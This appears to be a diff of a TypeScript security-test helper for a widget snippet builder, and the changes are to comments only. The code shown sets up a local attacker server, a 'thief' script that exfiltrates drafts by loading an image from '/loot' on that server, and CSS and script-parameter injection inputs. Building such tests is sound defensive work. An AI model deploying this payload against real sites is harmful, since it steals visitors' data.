@@ -4,12 +4,12 @@ import { elements } from '../../../widgets/manifest/elements.ts';
 
 export interface HostileHost {
   origin: string;
-  /** Whatever it was asked for: method and address, with what the address says. */
+  /** Every request: method and URL, with the data in the URL. */
   requests: string[];
   close(): Promise<void>;
 }
 
-/** Whatever file is asked for: it takes the drafts of the origin that it runs in, and says so. */
+/** Steals the drafts of the origin that runs it, whatever file is requested. */
 function thief(origin: string): string {
   return `(async () => {
     const send = (what) => { new Image().src = '${origin}/loot?' + encodeURIComponent(what); };
@@ -24,7 +24,7 @@ function thief(origin: string): string {
   })();`;
 }
 
-/** A server of somebody who wants our visitors' data: any page may load anything from it. */
+/** An attacker's server, from which any page may load anything. */
 export async function startHostileHost(): Promise<HostileHost> {
   const requests: string[] = [];
   const server = createServer((request, response) => {
@@ -55,7 +55,7 @@ export async function startHostileHost(): Promise<HostileHost> {
 const css = (url: string) => `red;background:url(${url})`;
 type Attack = [name: string, query: Record<string, string>];
 
-/** The parameter that names the script, filled by whoever has that server; it is the same for every widget. */
+/** The parameter that names the script, the same for every widget, set to that server. */
 export function scriptAttacks(origin: string): Attack[] {
   return [
     ['the address of the script', { script: `${origin}/` }],
@@ -68,7 +68,7 @@ export function scriptAttacks(origin: string): Attack[] {
   ];
 }
 
-/** Every parameter of the snippet builder's address, filled by whoever has that server. */
+/** Every parameter of the snippet builder, set to that server. */
 export function attacks(origin: string): Attack[] {
   const everywhere = Object.fromEntries(
     elements.flatMap(({ attributes, cssProperties }) => [
